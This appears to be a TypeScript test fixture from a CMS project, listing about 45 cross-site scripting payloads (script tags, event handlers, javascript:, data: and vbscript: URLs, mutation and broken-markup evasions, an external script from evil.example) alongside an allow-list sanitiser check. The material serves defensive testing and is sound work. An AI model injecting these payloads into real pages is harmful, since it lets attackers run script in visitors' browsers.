/**
 * Payloads that try to run script through a CMS page (issue 18, "Safety"), used by the HTTP test
 * (server/modules/cms/cms.test.ts: stored and rendered output) and the browser flow
 * (e2e/cms.e2e.ts: nothing runs in the public page). Each one that ran would set window.__xss or
 * open a dialog. Sources: the classic filter-evasion lists (OWASP's XSS filter evasion cheat
 * sheet), mutation XSS through foreign content, and broken markup.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="x" onerror="window.__xss=1"',
  '<IMG SRC="javascript:window.__xss=1;">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<a href="javascript:window.__xss=1">js link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(1)>hover me</p>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<video><source onerror=window.__xss=1></video>',
  '<body onload=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<div style="background:url(javascript:alert(1))">css url</div>',
  '<p style="width:expression(alert(1))">css expression</p>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<scr<script>ipt>window.__xss=1</script>',
  '<<script>window.__xss=1//<</script>',
  '</p><script>window.__xss=1</script><p>',
  '<!--<img src=x onerror=window.__xss=1>-->',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><script>window.__xss=1</script></template>',
  '<textarea></textarea><script>window.__xss=1</script>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '<a href="https://ok.example/" onclick="window.__xss=1">ok link, bad handler</a>',
];

/** The tags a rendered page may hold (its document and the blocks' allow-list). */
const ALLOWED_TAGS = new Set([
  'html', 'head', 'meta', 'title', 'link', 'body', 'header', 'main', 'article', 'footer', 'section', 'div', 'span',
  'h1', 'h2', 'h3', 'h4', 'p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'a', 'ul', 'ol', 'li', 'blockquote', 'code',
  'figure', 'figcaption', 'img',
]);
const ALLOWED_ATTRIBUTES = new Set(['class', 'href', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'lang', 'charset', 'name', 'content', 'property', 'role']);

/**
 * What in an HTML text could run script: a tag or attribute outside the allow-lists, an event
 * handler, a style, or a URL that is not http(s), mailto or relative. Text (escaped `&lt;…`)
 * cannot, so it is not looked at. An empty answer means the HTML is safe to show.
 */
export function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const withoutDoctype = html.replace(/^<!doctype html>/i, '');
  if (/<!--/.test(withoutDoctype)) found.push('a comment');
  for (const m of withoutDoctype.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    const tag = m[1].toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const a of m[2].matchAll(/([^\s"'=<>`/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      const name = a[1].toLowerCase();
      const value = (a[2] ?? a[3] ?? a[4] ?? '').replace(/&#(\d+);?/g, (_, d) => String.fromCharCode(Number(d))).replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCharCode(parseInt(h, 16)));
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`${tag}[${name}]`);
      if ((name === 'href' || name === 'src') && !/^(https?:\/\/|mailto:|\/(?!\/)|#)/i.test(value.trim())) found.push(`${tag}[${name}=${value}]`);
      if (name === 'content' && /url\s*=|javascript:/i.test(value) && tag === 'meta' && /refresh/i.test(m[2])) found.push('meta refresh');
    }
  }
  return found;
}
